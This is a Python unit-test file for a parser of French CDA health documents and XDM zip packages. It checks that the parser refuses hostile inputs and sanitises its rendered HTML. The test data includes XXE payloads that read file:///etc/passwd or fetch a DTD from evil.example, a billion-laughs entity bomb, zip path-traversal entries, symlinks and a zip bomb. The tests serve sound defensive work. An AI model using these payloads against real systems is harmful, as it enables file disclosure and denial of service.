"""Received health documents read safely (issue 13, the pure package): CDA N1 and N3 with
every narrative element, self-presentable, XDM packages in any case and with a root
folder; hostile input refused with a reason, never a crash; every public sample of
../shared/fixtures/cda renders."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest

from apps.documents.cda import cda_read
from apps.documents.errors import DocumentUnreadable
from apps.documents.narrative import media_image, media_index, narrative_html
from apps.documents.xdm import looks_like_xdm, xdm_read
from tests.unit.documents import builders

SHARED = Path(__file__).resolve().parents[4] / "shared" / "fixtures" / "cda"


def test_an_n1_gives_its_header_and_its_pdf() -> None:
    document = cda_read(builders.n1_pdf())
    assert document.level == "N1" and document.body_media_type == "application/pdf"
    assert document.body_bytes == builders.PDF
    assert (document.type.code, document.type.label) == ("11502-2", "CR d'examens biologiques")
    assert document.title == "Compte rendu de biologie 1" and document.version == "2"
    assert document.effective == dt.datetime(2026, 11, 28, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    patient = document.patient
    assert (patient.ins, patient.ins_oid, patient.ins_test) == ("279035121518989", "1.2.250.1.213.1.4.10", True)
    assert (patient.birth_name, patient.used_name, patient.given_names) == ("DUPONT", "MARTIN", ("Jeanne", "Marie"))
    assert (patient.birth_date, patient.sex) == (dt.date(1979, 3, 28), "F")
    author = document.authors[0]
    assert (author.name, author.idnat, author.profession, author.organisation) == (
        "Dr Claire MARTIN", "899700123450", "Médecin", "Laboratoire des Tilleuls")
    assert document.custodian == "Hôpital de Villefranche" and document.legal_authenticator == "Marc LEFÈVRE"
    assert document.replaces == "1.2.250.1.999.1^DOC-OLD" and document.confidentiality.code == "N"


def test_an_n1_in_text() -> None:
    document = cda_read(builders.n1_text())
    assert (document.body_media_type, document.body_bytes) == ("text/plain", "Résultats normaux.".encode())


def _rendered(data: bytes) -> str:
    document = cda_read(data)
    media = media_index(document.root)
    return "".join(narrative_html(s.narrative, media=media) + "".join(
        narrative_html(sub.narrative, media=media) for sub in s.sections) for s in document.sections)


def test_an_n3_narrative_renders_every_element_and_nothing_hostile() -> None:
    document = cda_read(builders.n3())
    assert document.level == "N3" and document.sections[0].title == "Résultats"
    assert document.sections[0].sections[0].title == "Sous-section"
    out = _rendered(builders.n3())
    assert '<span id="cda-c1" class="cda-bold cda-italics">important</span><br>' in out
    assert "H<sub>2</sub>O" in out and "m<sup>2</sup>" in out
    assert '<ol class="cda-footnotes"><li id="cda-fn1">Selon le protocole.</li></ol>' in out
    assert out.count('href="#cda-fn1">1</a>') == 2  # the note, and the reference to it
    assert '<p class="cda-caption">Étapes</p><ol><li>Un<ul><li>Un-un</li></ul></li><li>Deux</li></ol>' in out
    assert "<caption>Bilan</caption>" in out and '<th colspan="2">' in out and '<td rowspan="2">' in out
    assert '<col span="2">' in out and 'colspan="1000"' in out  # spans bounded
    assert 'class="cda-center"' in out
    assert ('<a href="https://esante.gouv.fr/ci-sis" rel="noopener noreferrer nofollow" target="_blank">CI-SIS</a>'
            ' <span class="cda-link-target">(https://esante.gouv.fr/ci-sis)</span>') in out
    assert "piège" in out and "piège2" in out  # the words stay, the links go
    assert "javascript:" not in out and "data:text/html" not in out
    assert '<a href="#cda-c1">plus haut</a>' in out
    assert '<img class="cda-media" src="cid:img1" alt="Radiographie">' in out
    assert media_image(media_index(document.root), "img1") == (builders.PNG, "image/png")
    assert media_image(media_index(document.root), "img2") is None  # text/html: never an image
    assert out.count("<img") == 1  # the text/html "image" is not shown
    assert "<script" not in out and "&lt;script&gt;alert(1)" in out and "alert(2)" in out  # as text
    assert "onclick" not in out and "texte gardé" in out and "<unknownElement" not in out


def test_a_self_presentable_document_is_read_without_running_its_stylesheet() -> None:
    document = cda_read(builders.self_presentable())
    assert document.title == "Compte rendu de biologie 3" and document.level == "N3"
    assert "<script" not in _rendered(builders.self_presentable())


@pytest.mark.parametrize("data, reason", [
    (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "dtd"),
    (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>', "dtd"),
    (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;">'
     b'<!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]><a>&l3;</a>', "dtd"),
    (b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/cda.dtd">'
     b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>', "dtd"),
    (b"<a>" * 10_000 + b"</a>" * 10_000, "too_deep"),
    (b"\x00 not xml", "not_xml"),
    (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "not_cda"),
])
def test_hostile_or_broken_xml_is_refused_with_a_reason(data: bytes, reason: str) -> None:
    with pytest.raises(DocumentUnreadable) as refused:
        cda_read(data)
    assert refused.value.reason == reason


@pytest.mark.requirement("ECO.2.1.2")
def test_an_xdm_package_in_any_case_with_a_root_folder_and_several_documents() -> None:
    documents = [("DOC0001.XML", builders.n1_pdf(1)), ("DOC0002.XML", builders.n3())]
    for package in (builders.xdm(documents), builders.xdm(documents, root="ENVOI-42/", lower=True)):
        assert looks_like_xdm(package)
        read = xdm_read(package)
        assert [d.entry.title for d in read.documents if d.entry] == ["Compte rendu 1", "Compte rendu 2"]
        assert all(d.problems == () for d in read.documents) and read.missing == ()
        first = read.documents[0].entry
        assert first is not None and first.patient_id.startswith("279035121518989^^^&1.2.250.1.213.1.4.10")
        assert first.authors == ("899700123450^MARTIN^Claire",) and first.type_code and first.type_code.code == "11502-2"
        assert cda_read(read.documents[1].data).level == "N3"
        assert read.readme.startswith("Lisez-moi") and "<script>" in read.index  # kept as text, shown as text
    assert not looks_like_xdm(builders.zip_of({"rapport.pdf": builders.PDF}))
    assert not looks_like_xdm(b"PK not really a zip")


def test_hash_and_size_mismatch_and_a_missing_file_are_reported() -> None:
    package = builders.xdm([("DOC0001.XML", builders.n1_pdf())], hashes={"DOC0001.XML": "0" * 40})
    read = xdm_read(package)
    assert read.documents[0].problems == ("hash",)
    files = {"IHE_XDM/SUBSET01/METADATA.XML": builders.metadata([("DOC0001.XML", b"x"), ("DOC0009.XML", b"y")]),
             "IHE_XDM/SUBSET01/DOC0001.XML": b"xx"}
    read = xdm_read(builders.zip_of(files))
    assert read.documents[0].problems == ("hash", "size") and read.missing == ("DOC0009.XML",)


@pytest.mark.parametrize("files, links, reason", [
    ({"IHE_XDM/SUBSET01/METADATA.XML": b"<a/>", "../../etc/cron.d/x": b"x"}, (), "zip_path"),
    ({"IHE_XDM/SUBSET01/METADATA.XML": b"<a/>", "/etc/passwd": b"x"}, (), "zip_path"),
    ({"IHE_XDM/SUBSET01/METADATA.XML": b"<a/>", "C:\\Windows\\x.txt": b"x"}, (), "zip_path"),
    ({"IHE_XDM/SUBSET01/METADATA.XML": b"<a/>"}, ("IHE_XDM/SUBSET01/DOC0001.XML",), "zip_link"),
    ({"README.TXT": b"x"}, (), "no_metadata"),
    ({"IHE_XDM/SUBSET01/METADATA.XML": b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"}, (), "metadata"),
])
def test_unsafe_or_incomplete_packages_are_refused(files: dict[str, bytes], links: tuple[str, ...],
                                                   reason: str) -> None:
    with pytest.raises(DocumentUnreadable) as refused:
        xdm_read(builders.zip_of(files, links=links))
    assert refused.value.reason == reason


def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("IHE_XDM/SUBSET01/METADATA.XML", builders.metadata([]))
        archive.writestr("IHE_XDM/SUBSET01/DOC0001.XML", b"\0" * (20 * 1024 * 1024))  # 20 MB in ~20 KB
    bomb = buffer.getvalue()
    assert len(bomb) < 100_000
    with pytest.raises(DocumentUnreadable) as refused:
        xdm_read(bomb)
    assert refused.value.reason == "zip_bomb"


def test_a_zip_whose_header_lies_about_a_size_is_refused() -> None:
    honest = builders.zip_of({"IHE_XDM/SUBSET01/METADATA.XML": builders.metadata([]),
                              "IHE_XDM/SUBSET01/DOC0001.XML": b"a" * 5000})
    # Make the central directory claim a smaller size than the data inflates to.
    lying = honest.replace((5000).to_bytes(4, "little"), (50).to_bytes(4, "little"))
    with pytest.raises(DocumentUnreadable) as refused:
        xdm_read(lying)
    assert refused.value.reason in ("zip_bomb", "not_zip")


@pytest.mark.skipif(not SHARED.is_dir(), reason="../shared/fixtures/cda is not beside this checkout")
def test_every_public_sample_renders_or_is_refused_with_a_reason() -> None:
    rendered = refused = 0
    for path in sorted(SHARED.rglob("*")):
        if path.suffix.lower() not in (".xml", ".zip") or "-validation" in str(path.relative_to(SHARED)):
            continue  # the validation material (schematrons, value sets) holds no document
        data = path.read_bytes()
        try:
            documents = [d.data for d in xdm_read(data).documents] if path.suffix.lower() == ".zip" else [data]
            for document in documents:
                html = _rendered(document)
                assert "<script" not in html
                rendered += 1
        except DocumentUnreadable as exc:
            # C-CDA "examples" that are a section or a component alone, not a document.
            assert exc.reason in ("not_cda", "not_xml"), (path.name, exc)
            refused += 1
    assert rendered >= 35 and refused <= 3
